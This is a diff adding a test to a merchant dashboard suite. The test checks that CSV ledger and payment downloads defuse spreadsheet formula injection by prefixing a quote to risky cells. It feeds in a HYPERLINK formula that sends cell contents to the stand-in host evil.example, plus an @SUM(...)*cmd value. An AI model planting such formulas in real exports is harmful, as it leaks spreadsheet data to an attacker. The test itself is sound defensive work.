@@ -197,6 +197,32 @@ describe('Merchant dashboard: payment links, mandates and downloads', function (
       assert.equal(r.checksum, toBulkRecord(bulk[0]!, merchant.secretKey).checksum);
     });
 
+    it("a payer's formula (=, +, -, @) is written as text: a leading ' in every CSV cell that would run", async () => {
+      const orderId = newOrderId('csv');
+      const formula = '=HYPERLINK("https://evil.example/?"&A1,"Refund")';
+      await sandboxPay(gw, {
+        merchantIdentifier: merchant.merchantIdentifier,
+        orderId,
+        payerVpa: 'success@sandbox',
+        buyerName: '@SUM(1+1)*cmd',
+        productDescription: formula,
+      });
+      await paymentFinished(gw, merchant.merchantIdentifier, orderId);
+      const ledger = await owner.send(`/dashboard/downloads/ledger.csv?from=${today()}&to=${today()}`);
+      const row = (parse(ledger.text, { columns: true }) as Record<string, string>[]).find((r) => r.orderId === orderId)!;
+      assert.equal(row.buyerName, "'@SUM(1+1)*cmd");
+      assert.equal(row.amountInRupees, '100', 'a number stays a number');
+      const day = await owner.send(`/dashboard/downloads/successful.csv?day=${today()}`);
+      const record = (parse(day.text, { columns: true }) as Record<string, string>[]).find((r) => r.orderid === orderId)!;
+      assert.equal(record.productDescription, `'${formula}`);
+      assert.equal(record.buyerName, "'@SUM(1+1)*cmd");
+      for (const text of [ledger.text, day.text]) {
+        for (const cell of parse(text) as string[][]) {
+          for (const c of cell.flat()) assert.ok(!/^[=+@\t\r]/.test(c) && !/^-(?![\d.]+$)/.test(c), `a cell that runs: ${c}`);
+        }
+      }
+    });
+
     it('an empty period is a CSV with its header only; bad input is a page saying why (400)', async () => {
       const empty = await owner.send('/dashboard/downloads/ledger.csv?from=2026-01-01&to=2026-01-02');
       assert.equal(empty.status, 200);
